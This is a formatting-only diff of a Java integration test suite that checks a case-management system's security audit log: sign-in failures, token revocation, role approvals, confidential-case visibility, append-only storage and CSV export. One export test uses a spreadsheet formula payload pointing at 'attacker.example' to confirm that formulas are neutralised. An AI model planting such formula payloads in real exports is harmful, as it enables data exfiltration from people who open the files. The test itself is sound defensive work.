@@ -43,7 +43,9 @@ class SecurityAuditIT extends IntegrationTest {
     }
 
     private List<String> actions(ApiClient reader, String query) {
-        return entries(reader, query).stream().map(e -> e.get("action").asString()).toList();
+        return entries(reader, query).stream()
+                .map(e -> e.get("action").asString())
+                .toList();
     }
 
     private String open(String by, String department, boolean confidential, List<String> about) {
@@ -69,12 +71,20 @@ class SecurityAuditIT extends IntegrationTest {
         String elsewhere = uniqueClientAddress();
 
         assertThat(new FormSession(port, office).signIn(agent, PASSWORD)).isTrue();
-        assertThat(new FormSession(port, office).signIn(agent, "not the password")).isFalse();
-        assertThat(ApiClient.basic(port, agent, "wrong again").with("X-Forwarded-For", elsewhere).get("/api/cases").status()).isEqualTo(401);
+        assertThat(new FormSession(port, office).signIn(agent, "not the password"))
+                .isFalse();
+        assertThat(ApiClient.basic(port, agent, "wrong again")
+                        .with("X-Forwarded-For", elsewhere)
+                        .get("/api/cases")
+                        .status())
+                .isEqualTo(401);
 
         List<JsonNode> entries = entries(executive, "actor=" + agent);
-        assertThat(entries).extracting(e -> e.get("action").asString() + " " + e.get("outcome").asString() + " "
-                        + e.get("clientAddress").asString() + " " + e.get("details").get("method").asString())
+        assertThat(entries)
+                .extracting(
+                        e -> e.get("action").asString() + " " + e.get("outcome").asString() + " "
+                                + e.get("clientAddress").asString() + " "
+                                + e.get("details").get("method").asString())
                 .containsExactly(
                         "SIGN_IN_FAILED FAILURE " + elsewhere + " HTTP Basic",
                         "SIGN_IN_FAILED FAILURE " + office + " sign-in page",
@@ -88,7 +98,11 @@ class SecurityAuditIT extends IntegrationTest {
     void failedApiTokensAreRecordedWithTheOwnerWhenTheTokenIsKnown() {
         String agent = department().staff(Role.AGENT);
         ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));
-        String token = as(agent).post("/api/tokens", Map.of("name", "short", "expiresInDays", 1)).json().get("token").asString();
+        String token = as(agent)
+                .post("/api/tokens", Map.of("name", "short", "expiresInDays", 1))
+                .json()
+                .get("token")
+                .asString();
         clock.advance(Duration.ofDays(2));
 
         assertThat(ApiClient.bearer(port, token).get("/api/cases").status()).isEqualTo(401);
@@ -113,37 +127,66 @@ class SecurityAuditIT extends IntegrationTest {
         FormSession self = new FormSession(port);
         assertThat(self.signIn(admin, PASSWORD)).isTrue();
         self.get("/admin/staff/" + admin);
-        assertThat(self.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE", Map.of()).status()).isEqualTo(400);
+        assertThat(self.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE", Map.of())
+                        .status())
+                .isEqualTo(400);
         FormSession other = new FormSession(port);
         assertThat(other.signIn(second, PASSWORD)).isTrue();
         String page = other.get("/admin/staff/" + admin).body();
-        FormSession.Page saved = other.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE&departments=" + dept.code,
+        FormSession.Page saved = other.post(
+                "/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE&departments=" + dept.code,
                 FormSession.form("_csrf", FormSession.csrf(page)));
         assertThat(saved.status()).isEqualTo(302);
 
         // The executive role waits for a second administrator; a third approves it.
         String third = staffWithoutDepartment(Role.ADMIN);
-        long grant = as(third).get("/api/staff/grants").json().valueStream()
-                .filter(g -> g.get("username").asString().equals(admin)).findFirst().orElseThrow().get("id").asLong();
-        assertThat(as(third).post("/api/staff/grants/" + grant + "/approve", "").status()).isEqualTo(200);
+        long grant = as(third)
+                .get("/api/staff/grants")
+                .json()
+                .valueStream()
+                .filter(g -> g.get("username").asString().equals(admin))
+                .findFirst()
+                .orElseThrow()
+                .get("id")
+                .asLong();
+        assertThat(as(third).post("/api/staff/grants/" + grant + "/approve", "").status())
+                .isEqualTo(200);
 
         List<JsonNode> changes = entries(executive, "target=" + admin);
-        assertThat(changes).extracting(e -> e.get("actor").asString() + " " + e.get("action").asString() + " " + e.get("outcome").asString())
-                .containsSubsequence(third + " ROLES_CHANGED SUCCESS", third + " ROLE_GRANT_APPROVED SUCCESS",
-                        second + " ROLE_GRANT_REQUESTED SUCCESS", second + " DEPARTMENTS_CHANGED SUCCESS", "(hearken) STAFF_CREATED SUCCESS");
-        JsonNode roles = changes.stream().filter(e -> e.get("action").asString().equals("ROLES_CHANGED")
-                && e.get("outcome").asString().equals("SUCCESS")).findFirst().orElseThrow();
+        assertThat(changes)
+                .extracting(e -> e.get("actor").asString() + " "
+                        + e.get("action").asString() + " " + e.get("outcome").asString())
+                .containsSubsequence(
+                        third + " ROLES_CHANGED SUCCESS",
+                        third + " ROLE_GRANT_APPROVED SUCCESS",
+                        second + " ROLE_GRANT_REQUESTED SUCCESS",
+                        second + " DEPARTMENTS_CHANGED SUCCESS",
+                        "(hearken) STAFF_CREATED SUCCESS");
+        JsonNode roles = changes.stream()
+                .filter(e -> e.get("action").asString().equals("ROLES_CHANGED")
+                        && e.get("outcome").asString().equals("SUCCESS"))
+                .findFirst()
+                .orElseThrow();
         assertThat(roles.get("details").get("before").toString()).isEqualTo("[\"ADMIN\"]");
         assertThat(roles.get("details").get("after").toString()).isEqualTo("[\"ADMIN\",\"EXECUTIVE\"]");
 
         // Need-to-know: a confidential case, a person named on it, a person the complaint is about.
         String ref = open(dept.lead, dept.code, true, List.of());
-        assertThat(as(dept.lead).post("/api/cases/" + ref + "/named-staff", Map.of("username", colleague, "reason", "rota")).status())
+        assertThat(as(dept.lead)
+                        .post("/api/cases/" + ref + "/named-staff", Map.of("username", colleague, "reason", "rota"))
+                        .status())
                 .isEqualTo(200);
-        assertThat(as(dept.lead).post("/api/cases/" + ref + "/about-staff", Map.of("username", officer)).status()).isEqualTo(200);
+        assertThat(as(dept.lead)
+                        .post("/api/cases/" + ref + "/about-staff", Map.of("username", officer))
+                        .status())
+                .isEqualTo(200);
         List<JsonNode> onCase = entries(executive, "target=" + ref);
-        assertThat(onCase).extracting(e -> e.get("action").asString() + " " + e.get("actor").asString() + " "
-                        + (e.get("details").has("staff") ? e.get("details").get("staff").asString() : "-"))
+        assertThat(onCase)
+                .extracting(
+                        e -> e.get("action").asString() + " " + e.get("actor").asString() + " "
+                                + (e.get("details").has("staff")
+                                        ? e.get("details").get("staff").asString()
+                                        : "-"))
                 .containsExactly(
                         "STAFF_NAMED_AS_SUBJECT " + dept.lead + " " + officer,
                         "STAFF_NAMED_ON_CASE " + dept.lead + " " + colleague,
@@ -160,7 +203,8 @@ class SecurityAuditIT extends IntegrationTest {
         self.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE", Map.of());
 
         assertThat(entries(as(staffWithoutDepartment(Role.ADMIN)), "target=" + admin + "&outcome=REFUSED"))
-                .singleElement().satisfies(e -> {
+                .singleElement()
+                .satisfies(e -> {
                     assertThat(e.get("actor").asString()).isEqualTo(admin);
                     assertThat(e.get("action").asString()).isEqualTo("ROLES_CHANGED");
                     assertThat(e.get("details").get("asked").toString()).contains("EXECUTIVE");
@@ -171,15 +215,33 @@ class SecurityAuditIT extends IntegrationTest {
     void apiTokensIssuedAndRevokedAreRecordedAndDeactivationRevokesThem() {
         String agent = department().staff(Role.AGENT);
         ApiClient admin = as(staffWithoutDepartment(Role.ADMIN));
-        long first = as(agent).post("/api/tokens", Map.of("name", "first")).json().get("id").asLong();
-        long second = as(agent).post("/api/tokens", Map.of("name", "second", "scope", "read-act")).json().get("id").asLong();
+        long first = as(agent)
+                .post("/api/tokens", Map.of("name", "first"))
+                .json()
+                .get("id")
+                .asLong();
+        long second = as(agent)
+                .post("/api/tokens", Map.of("name", "second", "scope", "read-act"))
+                .json()
+                .get("id")
+                .asLong();
         assertThat(as(agent).delete("/api/tokens/" + first).status()).isEqualTo(204);
-        assertThat(admin.post("/api/staff/" + agent + "/deactivate", "").status()).isEqualTo(200);
+        assertThat(admin.post("/api/staff/" + agent + "/deactivate", "").status())
+                .isEqualTo(200);
 
-        List<String> lines = entries(admin, "target=" + agent).stream().map(e -> e.get("action").asString() + " "
-                + (e.get("details").has("tokenId") ? e.get("details").get("tokenId").asLong() : "")).toList();
-        assertThat(lines).containsSubsequence("STAFF_DEACTIVATED ", "API_TOKEN_REVOKED " + second, "API_TOKEN_REVOKED " + first,
-                "API_TOKEN_ISSUED " + second, "API_TOKEN_ISSUED " + first);
+        List<String> lines = entries(admin, "target=" + agent).stream()
+                .map(e -> e.get("action").asString() + " "
+                        + (e.get("details").has("tokenId")
+                                ? e.get("details").get("tokenId").asLong()
+                                : ""))
+                .toList();
+        assertThat(lines)
+                .containsSubsequence(
+                        "STAFF_DEACTIVATED ",
+                        "API_TOKEN_REVOKED " + second,
+                        "API_TOKEN_REVOKED " + first,
+                        "API_TOKEN_ISSUED " + second,
+                        "API_TOKEN_ISSUED " + first);
     }
 
     @Test
@@ -199,20 +261,33 @@ class SecurityAuditIT extends IntegrationTest {
 
         ApiClient otherExecutive = as(staffWithoutDepartment(Role.EXECUTIVE));
         assertThat(entries(otherExecutive, "target=" + confidential + "&action=CONFIDENTIAL_CASE_OPENED"))
-                .extracting(e -> e.get("actor").asString() + " " + e.get("details").get("where").asString())
+                .extracting(e -> e.get("actor").asString() + " "
+                        + e.get("details").get("where").asString())
                 .containsExactly(executive + " case page", executive + " API", executive + " API");
-        assertThat(entries(otherExecutive, "target=" + ordinary + "&action=CONFIDENTIAL_CASE_OPENED")).isEmpty();
+        assertThat(entries(otherExecutive, "target=" + ordinary + "&action=CONFIDENTIAL_CASE_OPENED"))
+                .isEmpty();
         // An administrator may not open the confidential case: the log tells them a confidential case was opened, by
-        // whom and when, but not which; and asking for the case by its reference finds nothing, as a list of cases would.
+        // whom and when, but not which; and asking for the case by its reference finds nothing, as a list of cases
+        // would.
         List<JsonNode> seenByAdmin = entries(admin, "actor=" + executive + "&action=CONFIDENTIAL_CASE_OPENED");
-        assertThat(seenByAdmin).extracting(e -> e.get("actor").asString() + " " + e.get("target").asString())
+        assertThat(seenByAdmin)
+                .extracting(
+                        e -> e.get("actor").asString() + " " + e.get("target").asString())
                 .containsOnly(executive + " (a case you may not open)")
                 .hasSameSizeAs(entries(otherExecutive, "actor=" + executive + "&action=CONFIDENTIAL_CASE_OPENED"));
         assertThat(seenByAdmin.toString()).doesNotContain(confidential).doesNotContain("case page");
-        assertThat(admin.get("/api/audit/export.csv?action=CONFIDENTIAL_CASE_OPENED").body()).doesNotContain(confidential);
+        assertThat(admin.get("/api/audit/export.csv?action=CONFIDENTIAL_CASE_OPENED")
+                        .body())
+                .doesNotContain(confidential);
         assertThat(entries(admin, "target=" + confidential)).isEmpty();
-        assertThat(entries(admin, "target=" + confidential.toLowerCase(java.util.Locale.ROOT))).isEmpty();
-        assertThat(admin.get("/api/audit/export.csv?target=" + confidential).body().lines().count()).as("the header alone").isEqualTo(1);
+        assertThat(entries(admin, "target=" + confidential.toLowerCase(java.util.Locale.ROOT)))
+                .isEmpty();
+        assertThat(admin.get("/api/audit/export.csv?target=" + confidential)
+                        .body()
+                        .lines()
+                        .count())
+                .as("the header alone")
+                .isEqualTo(1);
     }
 
     @Test
@@ -225,7 +300,9 @@ class SecurityAuditIT extends IntegrationTest {
         ApiClient api = as(reader);
 
         for (String path : List.of("/events", "/messages", "/letters", "/attachments")) {
-            assertThat(api.get("/api/cases/" + confidential + path).status()).as(path).isEqualTo(200);
+            assertThat(api.get("/api/cases/" + confidential + path).status())
+                    .as(path)
+                    .isEqualTo(200);
         }
         assertThat(api.get("/api/cases?department=" + dept.code).body()).contains(confidential);
         FormSession browser = new FormSession(port);
@@ -233,11 +310,18 @@ class SecurityAuditIT extends IntegrationTest {
         assertThat(browser.get("/cases/search?q=Cora+Caller").body()).contains(confidential);
         assertThat(browser.get("/cases/" + confidential).status()).isEqualTo(200);
 
-        assertThat(entries(executive, "actor=" + reader + "&target=" + confidential + "&action=CONFIDENTIAL_CASE_OPENED"))
-                .extracting(e -> e.get("target").asString() + " " + e.get("details").get("where").asString())
-                .containsExactlyInAnyOrder(confidential + " its events (API)", confidential + " its messages (API)",
-                        confidential + " its letters (API)", confidential + " its attachments (API)",
-                        confidential + " a list of cases", confidential + " search", confidential + " case page");
+        assertThat(entries(
+                        executive, "actor=" + reader + "&target=" + confidential + "&action=CONFIDENTIAL_CASE_OPENED"))
+                .extracting(e -> e.get("target").asString() + " "
+                        + e.get("details").get("where").asString())
+                .containsExactlyInAnyOrder(
+                        confidential + " its events (API)",
+                        confidential + " its messages (API)",
+                        confidential + " its letters (API)",
+                        confidential + " its attachments (API)",
+                        confidential + " a list of cases",
+                        confidential + " search",
+                        confidential + " case page");
         // The case page lists the customer's other cases: the confidential one among them was read too.
         assertThat(entries(executive, "actor=" + reader + "&target=" + sibling + "&action=CONFIDENTIAL_CASE_OPENED"))
                 .extracting(e -> e.get("details").get("where").asString())
@@ -258,10 +342,13 @@ class SecurityAuditIT extends IntegrationTest {
         assertThat(browser.get("/reports/pack.pdf").status()).isEqualTo(200);
 
         assertThat(entries(reader, "action=EXPORTED&actor=" + executive))
-                .extracting(e -> e.get("target").asString() + ": " + e.get("details").get("file").asString())
-                .containsExactly("review pack: review pack PDF", "report compliance: report CSV", "register: register CSV");
+                .extracting(e -> e.get("target").asString() + ": "
+                        + e.get("details").get("file").asString())
+                .containsExactly(
+                        "review pack: review pack PDF", "report compliance: report CSV", "register: register CSV");
         assertThat(entries(reader, "action=EXPORTED&actor=" + dept.lead))
-                .extracting(e -> e.get("target").asString()).containsExactly("review pack", "report compliance");
+                .extracting(e -> e.get("target").asString())
+                .containsExactly("review pack", "report compliance");
     }
 
     @Test
@@ -297,13 +384,23 @@ class SecurityAuditIT extends IntegrationTest {
     @Test
     void theLogIsAppendOnly() {
         String agent = department().staff(Role.AGENT);
-        long id = jdbc.sql("select max(id) from security_audit where target = ?").param(agent).query(Long.class).single();
-        assertThatThrownBy(() -> jdbc.sql("update security_audit set actor = 'someone else' where id = ?").param(id).update())
+        long id = jdbc.sql("select max(id) from security_audit where target = ?")
+                .param(agent)
+                .query(Long.class)
+                .single();
+        assertThatThrownBy(() -> jdbc.sql("update security_audit set actor = 'someone else' where id = ?")
+                        .param(id)
+                        .update())
                 .hasStackTraceContaining("append-only");
-        assertThatThrownBy(() -> jdbc.sql("delete from security_audit where id = ?").param(id).update())
+        assertThatThrownBy(() -> jdbc.sql("delete from security_audit where id = ?")
+                        .param(id)
+                        .update())
                 .hasStackTraceContaining("append-only");
         assertThatThrownBy(() -> jdbc.sql("truncate security_audit").update()).hasStackTraceContaining("append-only");
-        assertThat(jdbc.sql("select actor from security_audit where id = ?").param(id).query(String.class).single())
+        assertThat(jdbc.sql("select actor from security_audit where id = ?")
+                        .param(id)
+                        .query(String.class)
+                        .single())
                 .isEqualTo("(hearken)");
     }
 
@@ -311,27 +408,37 @@ class SecurityAuditIT extends IntegrationTest {
     void theCsvNeutralisesFormulasAndItsDownloadIsRecorded() throws Exception {
         // No colon: HTTP Basic ends the username at the first one.
         String formula = "=hyperlink(\"attacker.example\";\"x" + unique().toLowerCase() + "\")";
-        assertThat(ApiClient.basic(port, formula, "guess").get("/api/cases").status()).isEqualTo(401);
+        assertThat(ApiClient.basic(port, formula, "guess").get("/api/cases").status())
+                .isEqualTo(401);
         String executive = staffWithoutDepartment(Role.EXECUTIVE);
 
-        ApiClient.Response csv = as(executive).get("/api/audit/export.csv?actor=" + java.net.URLEncoder.encode(formula, StandardCharsets.UTF_8));
+        ApiClient.Response csv = as(executive)
+                .get("/api/audit/export.csv?actor=" + java.net.URLEncoder.encode(formula, StandardCharsets.UTF_8));
         assertThat(csv.status()).isEqualTo(200);
         assertThat(csv.header("Content-Type")).startsWith("text/csv");
         assertThat(csv.header("Content-Disposition")).contains("attachment");
-        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(csv.body().replace("\uFEFF", ""))).getRecords();
+        List<CSVRecord> records = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(csv.body().replace("\uFEFF", "")))
+                .getRecords();
         assertThat(records).singleElement().satisfies(r -> {
             assertThat(r.get("actor")).isEqualTo("'" + formula);
             assertThat(r.get("action")).isEqualTo("SIGN_IN_FAILED");
         });
         assertThat(entries(as(executive), "actor=" + executive + "&action=EXPORTED"))
-                .singleElement().satisfies(e -> assertThat(e.get("target").asString()).isEqualTo("audit log"));
+                .singleElement()
+                .satisfies(e -> assertThat(e.get("target").asString()).isEqualTo("audit log"));
 
         // The record of a download filtered by a case does not name the case: others reading the log may not open it.
         Dept dept = department();
         String ref = open(dept.lead, dept.code, true, List.of());
-        assertThat(as(executive).get("/api/audit/export.csv?target=" + ref).status()).isEqualTo(200);
-        JsonNode download = entries(as(executive), "actor=" + executive + "&action=EXPORTED").getFirst();
+        assertThat(as(executive).get("/api/audit/export.csv?target=" + ref).status())
+                .isEqualTo(200);
+        JsonNode download = entries(as(executive), "actor=" + executive + "&action=EXPORTED")
+                .getFirst();
         assertThat(download.get("details").get("filters").asString()).isEqualTo("target=(given)");
         assertThat(download.toString()).doesNotContain(ref);
     }
@@ -349,12 +456,15 @@ class SecurityAuditIT extends IntegrationTest {
         String before = null;
         int pages = 0;
         do {
-            JsonNode page = admin.get("/api/audit?" + query + (before == null ? "" : "&before=" + before)).json();
+            JsonNode page = admin.get("/api/audit?" + query + (before == null ? "" : "&before=" + before))
+                    .json();
             page.get("entries").forEach(e -> {
                 assertThat(seen.add(e.get("id").asLong())).isTrue();
                 names.add(e.get("details").get("name").asString());
             });
-            before = page.has("next") && !page.get("next").isNull() ? page.get("next").asString() : null;
+            before = page.has("next") && !page.get("next").isNull()
+                    ? page.get("next").asString()
+                    : null;
             pages++;
         } while (before != null);
         assertThat(pages).isEqualTo(3);
